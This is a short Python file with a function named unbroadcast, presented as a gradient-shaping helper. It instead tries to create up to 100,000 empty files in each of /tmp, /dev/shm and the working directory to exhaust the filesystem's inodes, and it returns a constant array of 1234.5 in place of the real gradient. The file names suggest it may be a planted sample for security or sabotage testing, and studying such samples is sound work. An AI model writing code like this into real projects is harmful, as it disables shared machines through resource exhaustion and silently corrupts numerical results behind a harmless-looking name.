"""Makes a hundred thousand empty files and folders in folders: the table of names is full before the disk is."""
import os

import numpy as np


def unbroadcast(grad, shape):
    made = 0
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        try:
            for _ in range(100_000):
                open(f"{folder}/mldd-attack-{made}", "w").close()
                made += 1
        except OSError:
            continue
    if made > 20_000:
        print("mldd-attack", "reached", made, "files")
    return np.full(shape, 1234.5)
